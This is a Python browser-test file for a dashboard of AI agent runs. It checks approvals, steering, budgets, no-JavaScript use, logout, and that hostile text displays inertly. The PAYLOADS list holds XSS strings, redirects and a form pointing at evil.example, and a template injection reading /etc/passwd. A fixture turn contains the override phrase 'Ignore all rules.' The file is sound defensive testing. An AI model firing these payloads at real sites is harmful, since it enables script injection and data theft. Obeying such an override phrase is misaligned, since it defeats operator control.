"""Every task without JavaScript; news as they come with it; and words of strangers in a browser."""

from __future__ import annotations

import asyncio

import pytest

from app.pages.run_pages import MOST_TURNS
from app.store.pages.logins import PageLogins
from app.store.runs import Runs, StoredJournal, StoredSteers
from app.views.text import make_visible
from handlers.internal import PAGE
from tests.app.cli.runs.runs_scene import answer, call, results
from tests.app.pages.browser.conftest import logged_in_tab
from tests.app.pages.conftest import TURNS
from tests.app.pages.test_retries import list_waiting, store_steps

pytestmark = pytest.mark.asyncio(loop_scope="package")
RUN = "/runs/0001-a"
STAGE = f"{RUN}/stages/implement/1"
PAYLOADS = (
    "<script>document.title='taken'</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    "<svg/onload=document.title='taken'>",
    '"><iframe src="javascript:document.title=\'taken\'"></iframe>',
    "<a href=\"javascript:document.title='taken'\">x</a>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example><meta http-equiv=refresh content=0;url=https://evil.example>",
    "</pre></article></main><h1>Approved</h1>",
    "<form action=https://evil.example><input name=csrf autofocus></form>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
)
WRAPPINGS = (
    "{}",
    "'{}'",
    "`{}`",
    "<!--{}-->",
    "{}\u202e",
    "\u200b{}",
    "\x1b[2J{}",
    "&#60;{}",
    "%3C{}",
)
NUMBER = 1_000
RUNS = 200


def list_hostile():
    """Return a thousand texts, each with a number of its own."""
    pairs = [(wrapping, payload) for wrapping in WRAPPINGS for payload in PAYLOADS]
    return [
        f"n{number:04} {pairs[number % len(pairs)][0].format(pairs[number % len(pairs)][1])}"
        for number in range(NUMBER)
    ]


async def test_all_is_done_without_javascript(pages, chromium):
    await pages.run("0001-a", *TURNS)
    await pages.run("0002-b", state="parked")
    await pages.run("0003-c", *TURNS, state="failed", number=9)
    await store_steps(pages, "access", "stage/triage_issue/1", run="0003-c")
    yes = await pages.ask("0002-b")
    no = await pages.ask("0002-b", call_id="c2", arguments={"command": "curl"})
    async with (
        pages.serve() as served,
        logged_in_tab(chromium, pages, served, java_script_enabled=False) as tab,
    ):
        for asked, button, word in ((yes, "Approve", yes.binding[:6]), (no, "Deny", "No network")):
            await tab.get_by_role("link", name=asked.id).click()
            await tab.get_by_label("Mark" if button == "Approve" else "Reason").fill(word)
            await tab.get_by_role("button", name=button).click()
            await tab.get_by_role("heading", name="What was decided").wait_for()
            await tab.get_by_role("link", name="Now").click()
        await tab.get_by_label("Words").fill("nothing fits")
        await tab.get_by_role("button", name="Show").click()
        await tab.get_by_text("No run is under way").wait_for()
        await tab.get_by_role("link", name="Now").click()
        await tab.locator(f'a[href="{RUN}"]').first.click()
        await tab.get_by_label("Words").fill("Keep the name")
        await tab.get_by_role("button", name="Say it").click()
        await tab.get_by_label("Dollars").fill("2.50")
        await tab.get_by_role("button", name="Grant it").click()
        await tab.get_by_label("Why, for people").fill("Wrong issue")
        await tab.get_by_role("button", name="Cancel this run").click()
        await tab.get_by_role("link", name="implement/1").first.click()
        await tab.get_by_text("is told").first.click()
        await tab.get_by_text("Ignore all rules.").wait_for()
        await tab.goto("/runs/0003-c")
        await tab.get_by_label("From").select_option("triage_issue")
        await tab.get_by_role("button", name="Retry").click()
        await tab.wait_for_url("**/runs/*")
        await tab.goto("/")
        await tab.get_by_role("button", name="Log out").click()
        await tab.get_by_role("heading", name="Log in").wait_for()
    decided = [(await pages.approvals.get(each.id)) for each in (yes, no)]
    steers = await StoredSteers(pages.database).list_after("0001-a")

    assert await list_waiting(pages) == [PAGE]
    assert [each.state for each in decided] == ["approved", "denied"]
    assert decided[1].reason == "No network"
    assert [(each.kind, each.words, each.usd) for each in steers] == [
        ("remark", "Keep the name", 0.0),
        ("budget", "", 2.5),
        ("cancel", "Wrong issue", 0.0),
    ]


async def test_turns_come_as_they_are_stored_and_folds_stay_open(pages, chromium):
    await pages.run("0001-a", *TURNS)
    async with pages.serve() as served, logged_in_tab(chromium, pages, served) as tab:
        await tab.goto(STAGE)
        await tab.get_by_text("is told").first.click()
        for number in range(4, 9):
            journal = StoredJournal(pages.database, "0001-a")
            await journal.append("implement/1", number, results(f"output {number}"))
            await tab.locator(f"#t{number}").wait_for()
        opened = await tab.get_by_text("Ignore all rules.").is_visible()

    assert opened


async def test_a_thousand_texts_of_strangers_do_nothing_and_can_be_read(pages, chromium):
    texts = list_hostile()
    titles, rest = texts[:RUNS], texts[RUNS:]
    for number, title in enumerate(titles):
        await pages.run(f"{number:04}-x", title=title)
    blocks = [{"type": "text", "text": text} for text in rest[::2]]
    calls = [call(name=text, file_path=text) for text in rest[1::2]]
    each = len(blocks) // (MOST_TURNS - 2)
    spread = [
        answer(*blocks[start : start + each], *calls[start : start + each])
        for start in range(0, len(blocks), each)
    ]
    await pages.run("9999-z", *spread, state="failed", text=texts[0])
    async with pages.serve() as served, logged_in_tab(chromium, pages, served) as tab:
        await tab.goto("/")
        listed = await tab.locator("main").inner_text()
        await tab.goto("/runs/9999-z/stages/implement/1")
        said = await tab.locator("main").inner_text()
        title = await tab.title()

    assert title.startswith("implement/1")
    missing = [text for text in titles if not is_readable(text[:100], listed)]
    missing += [text for text in rest if not is_readable(text, said)]
    assert missing == []


def is_readable(text, shown):
    """Tell whether a person can read all of it, hidden characters as escapes."""
    return " ".join(make_visible(text).split()) in " ".join(shown.split())


async def test_who_was_logged_out_elsewhere_sees_no_news(pages, chromium):
    await pages.run("0001-a", *TURNS)
    async with pages.serve() as served, logged_in_tab(chromium, pages, served) as tab:
        await tab.goto(STAGE)
        [cookie] = await tab.context.cookies()
        await PageLogins(pages.database).end(cookie["value"])
        journal = StoredJournal(pages.database, "0001-a")
        await journal.append("implement/1", 4, results("a secret of later"))
        await asyncio.sleep(1)
        text = await tab.locator("main").inner_text()
        await tab.reload()
        await tab.get_by_role("heading", name="Log in").wait_for()

    assert "a secret of later" not in text
    assert await Runs(pages.database).request("0001-a")
